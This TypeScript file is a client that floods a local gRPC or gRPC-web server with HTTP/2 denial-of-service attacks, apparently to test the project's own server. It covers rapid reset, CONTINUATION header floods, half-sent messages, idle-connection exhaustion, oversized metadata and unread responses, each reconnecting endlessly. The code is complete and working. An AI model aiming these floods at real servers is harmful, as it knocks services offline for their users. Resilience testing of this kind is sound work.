/**
 * A client that attacks a door until it is stopped: `attack.ts <door> <port> <attack> <from>`, where
 * `door` is `grpc` or `web`, and `from` is the address that it connects from. Prints `attacking` when
 * it has begun.
 */
import { Buffer } from "node:buffer";
import { connect as connectHttp2 } from "node:http2";
import { connect, type Socket } from "node:net";
import { callHeaders, FLAG, FRAME, frame, headerBlock, join, PREFACE } from "../http2_frames.ts";

const [door = "", port = "", attack = "", from = ""] = Deno.args;
const host = "127.0.0.1";
const TYPE = door === "web" ? "application/grpc-web+proto" : "application/grpc";
const BEGIN = join(PREFACE, frame(FRAME.SETTINGS, 0, 0), frame(FRAME.SETTINGS, 1, 0));
const callTo = (path: string) => ({ ...callHeaders(path), "content-type": TYPE });
const GET = callTo("/mpc.v1.EnvironmentService/GetEnvironment");
const CALL = headerBlock(GET);
const CANCEL = Uint8Array.of(0, 0, 0, 8);
const streams = (count: number) => Array.from({ length: count }, (_, n) => 2 * n + 1);
const pair = (stream: number) =>
  join(
    frame(FRAME.HEADERS, FLAG.END_HEADERS, stream, CALL),
    frame(FRAME.RST_STREAM, 0, stream, CANCEL),
  );

/** Opens connections that send `bytes`; each ended connection is replaced by another. */
function flood(connections: number, bytes: Uint8Array, reads = true): void {
  const open = () => {
    const socket: Socket = connect({ host, port: Number(port), localAddress: from });
    socket.on("connect", () => socket.write(bytes));
    if (reads) socket.resume();
    // Being cut off is expected.
    socket.on("error", () => {});
    socket.on("close", () => setTimeout(open, 100));
  };
  for (let left = connections; left > 0; left--) open();
}

/** Calls that send all but the last byte of a message of almost 4 MB, as fast as windows allow. */
function halfSent(connections: number): void {
  const message = Buffer.alloc(4_000_000);
  message.writeUInt32BE(message.length - 4, 1);
  const open = () => {
    const socket = connect({ host, port: Number(port), localAddress: from });
    const session = connectHttp2(`http://${host}:${port}`, { createConnection: () => socket });
    session.on("error", () => {});
    session.on("close", () => setTimeout(open, 100));
    const stream = session.request(GET);
    stream.on("error", () => {});
    stream.on("close", () => session.destroy());
    stream.write(message);
  };
  for (let left = connections; left > 0; left--) open();
}

/** Calls with a large response, with windows for all of it, that is never read. */
function unread(connections: number): void {
  const window = Uint8Array.of(0, 4, 0x7f, 255, 255, 255);
  const calls = streams(200).map(door === "web" ? documentRequest : reflectionCall);
  const wide = frame(FRAME.WINDOW_UPDATE, 0, 0, Uint8Array.of(0x7f, 0xfe, 0, 0));
  flood(connections, join(PREFACE, frame(FRAME.SETTINGS, 0, 0, window), wide, ...calls), false);
}

/** A request for the web door's largest page. */
function documentRequest(stream: number): Uint8Array {
  const headers = {
    ":method": "GET",
    ":scheme": "http",
    ":path": "/openapi.json",
    ":authority": "localhost",
  };
  return frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, stream, headerBlock(headers));
}

/** A call that asks 50 times for the description of a service. */
function reflectionCall(stream: number): Uint8Array {
  const path = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
  // file_containing_symbol: "mpc.v1.EnvironmentService"
  const symbol = new TextEncoder().encode("mpc.v1.EnvironmentService");
  const request = join(Uint8Array.of(0x22, symbol.length), symbol);
  const message = join(Uint8Array.of(0, 0, 0, 0, request.length), request);
  return join(
    frame(FRAME.HEADERS, FLAG.END_HEADERS, stream, headerBlock(callTo(path))),
    ...Array<Uint8Array>(50).fill(frame(FRAME.DATA, 0, stream, message)),
  );
}

const ATTACKS: Readonly<Record<string, () => void>> = {
  "rapid reset": () => flood(400, join(BEGIN, ...streams(1_990).map(pair))),
  "calls without a message": () =>
    flood(
      400,
      join(
        BEGIN,
        ...streams(1_000).map((stream) => frame(FRAME.HEADERS, FLAG.END_HEADERS, stream, CALL)),
      ),
    ),
  "half-sent messages": () => halfSent(250),
  "idle connections": () => flood(2_500, BEGIN),
  "half-sent header blocks": () => {
    const headers = headerBlock({ ...GET, "x-much": "x".repeat(15_000) });
    const more = headerBlock({ "x-more": "x".repeat(15_000) });
    const parts = [1, 2, 3].map(() => frame(FRAME.CONTINUATION, 0, 1, more));
    flood(2_000, join(BEGIN, frame(FRAME.HEADERS, 0, 1, headers), ...parts));
  },
  "large metadata": () => {
    const block = headerBlock({ ...GET, "x-much": "x".repeat(12_000) });
    const calls = streams(500).map((s) => frame(FRAME.HEADERS, FLAG.END_HEADERS, s, block));
    flood(200, join(BEGIN, ...calls));
  },
  "unread answers": () => unread(100),
  "refused calls": () => {
    const block = headerBlock({ ...GET, "content-type": "text/html" });
    const calls = streams(1_900).map((s) => frame(FRAME.HEADERS, 5, s, block));
    flood(400, join(BEGIN, ...calls));
  },
};

const begin = ATTACKS[attack];
if (!begin) throw new Error(`no attack '${attack}'; there are ${Object.keys(ATTACKS).join(", ")}`);
begin();
console.log("attacking");
